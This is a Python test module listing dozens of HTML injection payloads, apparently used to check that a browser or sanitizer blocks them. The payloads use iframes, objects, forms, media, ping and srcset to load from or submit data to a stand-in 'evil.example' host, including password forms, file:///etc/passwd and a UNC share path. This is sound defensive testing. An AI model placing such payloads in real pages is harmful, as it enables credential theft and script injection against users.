"""Frames, plug-ins, forms, media: elements that bring something, or take it away."""

from html import escape
from typing import Final

from tests.browser.attack import EVIL, HIT, IMG, attacks

_INNER: Final = f"<iframe srcdoc='{escape(IMG)}'></iframe>"

_FRAME: Final = {
    "iframe": f"<iframe src={EVIL}/></iframe>",
    "iframe, protocol-relative": "<iframe src=//evil.example/></iframe>",
    "iframe, loopback": "<iframe src=http://127.0.0.1:9/></iframe>",
    "iframe, lazy": f"<iframe loading=lazy src={EVIL}/></iframe>",
    "iframe, sandbox": f"<iframe sandbox='allow-scripts allow-same-origin' src={EVIL}/></iframe>",
    "iframe, blank with load": f"<iframe src=about:blank onload={HIT}></iframe>",
    "iframe, named": f"<iframe name=f></iframe><a target=f href={EVIL}/>x</a>",
    "iframe, never closed": f"<iframe src={EVIL}/><p>x",
    "srcdoc": f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    "srcdoc, entities": f'<iframe srcdoc="{escape(IMG)}"></iframe>',
    "srcdoc, sandbox": f'<iframe sandbox=allow-scripts srcdoc="{escape(IMG)}"></iframe>',
    "srcdoc, nested": f'<iframe srcdoc="{escape(_INNER)}"></iframe>',
    "srcdoc, upper case": f"<IFRAME SRCDOC='{IMG}'></IFRAME>",
    "srcdoc, fetches": f"<iframe srcdoc='<link rel=stylesheet href={EVIL}/s.css>'></iframe>",
    "frame": f"<frameset><frame src={EVIL}/></frameset>",
    "frame with load": f"<frameset cols=1><frame src=about:blank onload={HIT}></frameset>",
    "object": f"<object data={EVIL}/o></object>",
    "object, html": f"<object type=text/html data={EVIL}/o.html></object>",
    "object, flash": f"<object type=application/x-shockwave-flash data={EVIL}/o.swf></object>",
    "object, fallback": f"<object>{IMG}</object>",
    "object, nested": f"<object data=x><object data={EVIL}/o></object></object>",
    "object, class": (
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389>"
        f"<param name=url value=javascript:{HIT}></object>"
    ),
    "embed": f"<embed src={EVIL}/e>",
    "embed, svg": f"<embed type=image/svg+xml src={EVIL}/e.svg>",
    "embed, code": f"<embed code={EVIL}/e.class allowscriptaccess=always>",
    "applet": f"<applet code=x archive={EVIL}/a.jar></applet>",
    "applet, fallback": f"<applet code=x>{IMG}</applet>",
    "portal": f"<portal src={EVIL}/></portal>",
    "fenced frame": f"<fencedframe src={EVIL}/></fencedframe>",
    "webview": f"<webview src={EVIL}/></webview>",
    "layer": f"<layer src={EVIL}/></layer>",
    "noframes": f"<noframes></noframes>{IMG}</noframes>",
}

_FORM: Final = {
    "get": f"<form action={EVIL}/><input name=x><button>x</button></form>",
    "post": f"<form method=post action={EVIL}/><input type=submit></form>",
    "new window": f"<form target=_blank action={EVIL}/><button>x</button></form>",
    "no action": "<form><button>x</button></form>",
    "password": f"<form action={EVIL}/><input type=password name=p><input type=submit></form>",
    "formaction": f"<form><button formaction={EVIL}/>x</button></form>",
    "formaction, upper case": f"<form><BUTTON FORMACTION={EVIL}/>x</BUTTON></form>",
    "formaction of an input": f"<form><input type=submit formaction={EVIL}/></form>",
    "formaction of an image": f"<form><input type=image src=i.png formaction={EVIL}/></form>",
    "button outside": f"<form id=f></form><button form=f formaction={EVIL}/>x</button>",
    "input outside": f"<form id=f action={EVIL}/></form><input type=submit form=f>",
    "form in form": f"<form action=#><form action={EVIL}/><button>x</button></form></form>",
    "form in table": f"<table><form action={EVIL}/><tr><td><button>x</button></table>",
    "form after a form": f"<div><form></div><form action={EVIL}/><button>x</button></form>",
    "isindex": f"<isindex action={EVIL}/ type=submit>",
    "multipart": (
        f"<form action={EVIL}/ method=post enctype=multipart/form-data><button>x</button></form>"
    ),
    "command": (
        "<button command=show-modal commandfor=d>x</button>"
        f"<dialog id=d onbeforetoggle={HIT}>y</dialog>"
    ),
    "keygen": f"<form action={EVIL}/><keygen name=k><button>x</button></form>",
    "label": f"<form action={EVIL}/><label>x<input type=submit></label></form>",
    "output": f"<form oninput={HIT}><output>x</output><input></form>",
    "interest": f"<button interestfor=p>x</button><p id=p popover oninterest={HIT}>y</p>",
}

_FETCH: Final = {
    "audio": f"<audio src={EVIL}/a.mp3></audio>",
    "audio, autoplay": f"<audio autoplay src={EVIL}/a.mp3></audio>",
    "audio source": f"<audio><source src={EVIL}/a.ogg type=audio/ogg></audio>",
    "video": f"<video src={EVIL}/v.mp4></video>",
    "video, autoplay": f"<video autoplay muted src={EVIL}/v.mp4></video>",
    "video, preload": f"<video preload=auto src={EVIL}/v.mp4></video>",
    "video source": f"<video><source src={EVIL}/v.webm></video>",
    "video, protocol-relative": "<video autoplay src=//evil.example/v.mp4></video>",
    "video poster": f"<video poster={EVIL}/p.png></video>",
    "track": f"<video><track default kind=captions src={EVIL}/t.vtt></video>",
    "track, crossorigin": f"<video crossorigin><track default src={EVIL}/t.vtt></video>",
    "ping of a": f"<a href=https://example.org/ ping={EVIL}/p>x</a>",
    "ping of several": f"<a href=#x ping='{EVIL}/p {EVIL}/q'>x</a>",
    "ping of area": (
        f"<img src=i.png usemap=#m><map name=m><area href=https://example.org/ ping={EVIL}/p></map>"
    ),
    "srcset": f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    "srcset, javascript first": f"<img srcset='javascript:{HIT} 1x, {EVIL}/b.png 2x'>",
    "srcset, commas": f"<img srcset=',,{EVIL}/a,b.png ,javascript:{HIT} 3x,'>",
    "srcset, data": f"<img srcset='data:,x 1x,{EVIL}/b.png 1x' onerror={HIT}>",
    "srcset of a source": (
        f"<picture><source srcset='javascript:{HIT}'><img src={EVIL}/i.png></picture>"
    ),
    "srcset, widths": (
        f"<img sizes=100vw srcset='{EVIL}/a.png 99w,data:image/png, 1w' onload={HIT}>"
    ),
    "input image": f"<input type=image src={EVIL}/i.png>",
    "body background": f"<body background={EVIL}/b.png>",
    "table background": f"<table background={EVIL}/b.png><tr><td>x</table>",
    "cell background": f"<table><tr><td background={EVIL}/b.png>x</table>",
    "lowsrc": f"<img lowsrc={EVIL}/l.png>",
    "dynsrc": f"<img dynsrc={EVIL}/d.avi>",
    "bgsound": f"<bgsound src={EVIL}/b.mid>",
    "image of svg": f"<svg><image href={EVIL}/i.png /></svg>",
    "attribution": f"<img attributionsrc={EVIL}/r src={EVIL}/i.png>",
    "attribution of a link": f"<a attributionsrc={EVIL}/r href=#x>x</a>",
    "shared storage": f"<img sharedstoragewritable src={EVIL}/i.png>",
    "file": "<img src=file:///etc/passwd>",
    "windows share": "<img src='\\\\evil.example\\share\\i.png'>",
    "file transfer": "<img src=ftp://evil.example/i.png>",
    "browser page": "<img src=chrome://theme/IDR_PRODUCT_LOGO>",
    "blob": "<img src=blob:http://evil.example/0b0b>",
    "address of the machine": "<img src=http://2130706433/i.png>",
    "link that a window can use": f"<a href={EVIL}/ target=_blank rel=opener>x</a>",
    "xml": f"<xml id=x src={EVIL}/x.xml></xml><p datasrc=#x datafld=y dataformatas=html></p>",
    "event source": f"<event-source src={EVIL}/e onmessage={HIT}>",
    "menu icon": f"<menu type=context><menuitem icon={EVIL}/i.png label=x onclick={HIT}></menu>",
    "longdesc": f"<img src=i.png longdesc={EVIL}/l>",
}

ATTACKS: Final = (
    *attacks("frame", _FRAME),
    *attacks("form", _FORM),
    *attacks("fetch", _FETCH),
)
